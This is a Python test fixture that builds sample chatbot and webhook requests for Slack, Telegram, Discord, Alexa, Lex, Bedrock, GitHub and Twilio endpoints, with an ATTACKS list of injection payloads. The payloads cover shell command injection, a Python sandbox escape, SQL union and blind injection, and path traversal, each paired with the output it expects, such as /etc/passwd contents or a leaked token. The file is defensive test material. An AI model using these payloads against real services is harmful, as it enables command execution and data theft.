"""Bots and assistants."""

import hashlib
import hmac
import json

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.fifth import (
    CRON,
    EMOJI,
    ESSAY,
    FORMULA,
    IRISH,
    JAVA,
    LINK,
    NESTED,
    NOTES,
    PROSE,
    QUOTED,
    SNIPPET,
    TICKET,
    WINDOWS,
    gateway,
    url,
)

ID = "uid="


def _slack(text: str, user: str = "ann") -> dict[str, object]:
    form = {"token": "t", "team_id": "T1", "command": "/check", "text": text, "user_name": user}
    return url("POST", "/slack", form=form, packed=True)


def _signed(**sent: object) -> dict[str, object]:
    body = json.dumps(sent)
    sign = hmac.new(b"slack-signing-secret", f"v0:1781000000:{body}".encode(), hashlib.sha256).hexdigest()
    headers = {"x-slack-request-timestamp": "1781000000", "x-slack-signature": f"v0={sign}"}
    return url("POST", "/events", body, headers=headers)


def _telegram(text: str) -> dict[str, object]:
    message = {
        "message_id": 5,
        "chat": {"id": 77, "type": "private"},
        "from": {"first_name": IRISH},
        "text": text,
    }
    return url("POST", "/bot", {"update_id": 1, "message": message})


def _discord(question: str, choices: str) -> dict[str, object]:
    options = [
        {"name": "question", "type": 3, "value": question},
        {"name": "choices", "type": 3, "value": choices},
    ]
    return gateway("POST", "/discord", {"type": 2, "data": {"name": "poll", "options": options}})


def _alexa(dish: str) -> dict[str, object]:
    slots = {"Dish": {"name": "Dish", "value": dish, "confirmationStatus": "NONE"}}
    return {
        "version": "1.0",
        "session": {"new": True, "sessionId": "s"},
        "request": {"type": "IntentRequest", "locale": "en-IE", "intent": {"name": "Recipe", "slots": slots}},
    }


def _lex(name: str, **slots: str) -> dict[str, object]:
    made = {
        one: {"value": {"interpretedValue": value, "originalValue": value}} for one, value in slots.items()
    }
    return {
        "invocationSource": "FulfillmentCodeHook",
        "sessionState": {"intent": {"name": name, "slots": made}},
    }


def _topic(topic: str) -> dict[str, object]:
    return {
        "messageVersion": "1.0",
        "agent": {"name": "help", "id": "A", "alias": "B", "version": "1"},
        "actionGroup": "docs",
        "apiPath": "/docs/{topic}",
        "httpMethod": "GET",
        "parameters": [{"name": "topic", "type": "string", "value": topic}],
    }


def _order(**values: str) -> dict[str, object]:
    made = [{"name": name, "type": "string", "value": value} for name, value in values.items()]
    return {"apiPath": "/orders", "requestBody": {"content": {"application/json": {"properties": made}}}}


def _comment(text: str) -> dict[str, object]:
    return gateway(
        "POST", "/hook", {"action": "created", "comment": {"body": text, "user": {"login": "o-brien"}}}
    )


def _push(branch: str, *messages: str) -> dict[str, object]:
    return gateway(
        "POST", "/hook", {"ref": f"refs/heads/{branch}", "commits": [{"message": one} for one in messages]}
    )


def _sms(text: str) -> dict[str, object]:
    return gateway("POST", "/sms", f"From=%2B353861234567&Body={text}")


REQUESTS = {
    "slack_check": [
        _slack("db-1.internal.example.org"),
        _slack("10.0.0.7 port 5432", "o.brien"),
        _slack("web_2"),
    ],
    "slack_ticket": [
        _slack(TICKET),
        _slack(f"{SNIPPET}<script>{JAVA}", IRISH),
        _slack(PROSE),
        _slack(WINDOWS),
    ],
    "slack_signed": [
        _signed(type="url_verification", challenge="3eZbrw; select"),
        _signed(type="event_callback", event={"text": f"<@U1> please `rm -rf /tmp/x` & {LINK}"}),
    ],
    "telegram_sum": [
        _telegram("/calc 2*(3+4)"),
        _telegram("/calc sqrt(16) + 2^10"),
        _telegram("/calc sin(pi/2)"),
    ],
    "telegram_sum_checked": [
        _telegram("/calc -3 * (2 + 4.5) % 5"),
        _telegram("/calc __import__('os').system('id')"),
        _telegram("/calc " + FORMULA),
    ],
    "discord_poll": [
        gateway("POST", "/discord", {"type": 1}),
        _discord("Which DB; `mysql` or $(pg)?", "MySQL | Postgres; drop | none -- really"),
        _discord(EMOJI, f"{QUOTED}|{CRON}"),
    ],
    "alexa_recipe": [_alexa("Soda bread"), _alexa("select stew"), _alexa("o'brien's pie -- with cream")],
    "lex_fulfil": [
        _lex("hours", day="Monday"),
        _lex("stock", item="O'Brien jam"),
        _lex("stock", item="os.popen"),
    ],
    "bedrock_topic": [_topic("returns"), _topic("shipping"), _topic("warranty & repairs")],
    "bedrock_order": [
        _order(customer=IRISH, item="tea"),
        _order(customer="null", item="; drop", note=NESTED),
        _order(customer="' OR 1=1 --", item="{{7*7}}", note=ESSAY),
    ],
    "github_label": [
        _comment("/label bug, won't fix\nrepro:\n```sh\nrm -rf node_modules; npm i\n```"),
        _comment(NOTES + "/label area: sql, '; DROP TABLE labels; --\n"),
    ],
    "github_changelog": [
        _push("main", "Fix O'Brien's $PATH; `ls` works", "add a && b"),
        _push("feature/sql-select_2.0", PROSE, TICKET + "\n\nbody"),
        _push("dependabot/npm_and_yarn/x-1.2.3", "b", "a"),
    ],
    "twilio_reply": [
        _sms("Tom+%26+Jerry+%3C3+it%27s+5%25"),
        _sms("%3C%21DOCTYPE+x%3E+%24%28id%29+%F0%9F%8E%89"),
    ],
}
ATTACKS = [
    Attack("shell", "slack_check", _slack("web; id #"), ID),
    Attack("shell", "slack_check", _slack("`id`"), ID),
    Attack("shell", "slack_check", _slack("web", "x\nid #"), ID),
    Attack("shell", "slack_check", _slack("web | cat /etc/passwd -"), "root:x:0"),
    Attack("shell", "slack_check", _slack("$(printf '\\151\\144' | sh)"), ID),
    Attack("Python code", "telegram_sum", _telegram("/calc __import__('subprocess').getoutput('id')"), ID),
    Attack(
        "Python code",
        "telegram_sum",
        _telegram(
            "/calc [c for c in ().__class__.__base__.__subclasses__() if c.__name__=='_wrap_close'][0].__init__.__globals__['popen']('id').read()"
        ),
        ID,
    ),
    Attack("Python code", "telegram_sum", _telegram("/calc open('/etc/passwd').read()"), "root:x:0"),
    Attack("SQL", "alexa_recipe", _alexa('x" union select token, 1 from partners --'), "alexa-token-88"),
    Attack(
        "SQL, blind",
        "alexa_recipe",
        _alexa('soda bread" and (select count(*) from partners where token like "alexa%") > 0 or "" = "x'),
        "soda bread takes",
    ),
    Attack("names", "lex_fulfil", _lex("subprocess.getoutput", x="id"), ID),
    Attack("names", "lex_fulfil", _lex("os.listdir", x="/tmp/fifth-bots"), "internal.md"),
    Attack("path", "bedrock_topic", _topic("../internal"), "internal-margin-61"),
    Attack("path", "bedrock_topic", _topic("./../docs/.././internal"), "internal-margin-61"),
    Attack("shell", "github_changelog", _push('main"; id; echo "', "x"), ID),
    Attack("shell", "github_changelog", _push("x$(id>&2)${IFS}`id`", "x"), ID),
]
